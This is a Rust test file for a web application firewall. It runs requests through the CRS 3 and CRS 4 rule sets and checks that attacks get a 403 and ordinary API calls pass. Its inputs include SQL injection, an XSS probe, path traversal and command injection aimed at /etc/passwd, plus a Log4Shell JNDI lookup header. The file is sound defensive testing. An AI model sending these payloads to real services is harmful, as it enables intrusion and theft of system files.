//! Both rule sets decide: attacks of several kinds are refused, and ordinary calls pass.

use std::net::{IpAddr, Ipv4Addr};

use bytes::Bytes;
use rules::engine::{Context, Engine, Transaction};
use rules::head::Head;
use rules::rule::Phase;
use rules::rule_set::RuleSet;

use super::disk::Disk;
use super::sets::{crs3, crs4};

fn engine(files: &[String]) -> Engine {
    let files: Vec<&str> = files.iter().map(String::as_str).collect();
    Engine::new(RuleSet::load(&files, &Disk).unwrap_or_else(|error| panic!("{error}")))
}

fn sent(engine: &Engine, request: &str) -> Transaction {
    let caller = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 7));
    let mut transaction = engine.begin(&Context {
        now_us: 1_700_000_000_000_000,
        remote: (caller, 40_000),
        server: (IpAddr::V4(Ipv4Addr::LOCALHOST), 80),
        unique_id: "exchange-1",
        work_max: u64::MAX,
    });
    let head = Head::split(request.as_bytes());
    transaction.request_line(head.line, head.method, head.uri, head.protocol);
    for (name, value) in head.headers() {
        transaction.request_header(name, value);
    }
    let refused = transaction.run(Phase::RequestHeaders).is_some();
    if !refused && transaction.wants_request_body() {
        transaction.request_body(Bytes::copy_from_slice(head.rest), false);
        transaction.run(Phase::RequestBody);
    }
    transaction.finish();
    transaction
}

fn get(target: &str, header: &str) -> String {
    format!(
        "GET {target} HTTP/1.1\r\nHost: api.example\r\nUser-Agent: app/1.0\r\nAccept: */*\r\n{header}\r\n"
    )
}

fn post(body: &str) -> String {
    format!(
        "POST /v1/orders HTTP/1.1\r\nHost: api.example\r\nUser-Agent: app/1.0\r\nAccept: */*\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

#[track_caller]
fn check(engine: &Engine, request: &str, refused_by: Option<u64>) {
    let transaction = sent(engine, request);
    let ids: Vec<u64> = transaction.hits().map(|hit| hit.rule.id).collect();
    let interruption = transaction.interruption();
    assert_eq!(interruption.map(|it| it.rule_id), refused_by, "{request}\n{ids:?}");
    assert!(interruption.is_none_or(|it| it.status == 403), "{interruption:?}");
}

fn decides(engine: &Engine) {
    for request in [
        get("/v1/orders?id=1'%20or%20'1'%3D'1'%20--%20", ""),
        get("/v1/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
        get("/v1/files?name=../../../../etc/passwd", ""),
        get("/v1/ping?host=127.0.0.1;cat%20/etc/passwd", ""),
        post(r#"{"name": "1' UNION SELECT password FROM users -- "}"#),
    ] {
        check(engine, &request, Some(949_110));
    }
    for request in [
        get("/v1/orders?page=2&sort=created_at&q=blue+shirt", ""),
        get("/v1/orders/6f9619ff-8b86-d011-b42d-00c04fc964ff", "Cookie: session=abc123\r\n"),
        post(r#"{"sku": "A-17", "quantity": 2, "note": "Ring twice, please"}"#),
    ] {
        check(engine, &request, None);
    }
}

#[test]
fn crs_4_decides() {
    let engine = engine(&crs4());
    decides(&engine);
    // Debian's 3.3.4 is older than what finds this.
    let lookup = get("/v1/orders", "X-Api: ${jndi:ldap://a.example/x}\r\n");
    check(&engine, &lookup, Some(949_110));
}

#[test]
fn crs_3_decides() {
    decides(&engine(&crs3()));
}
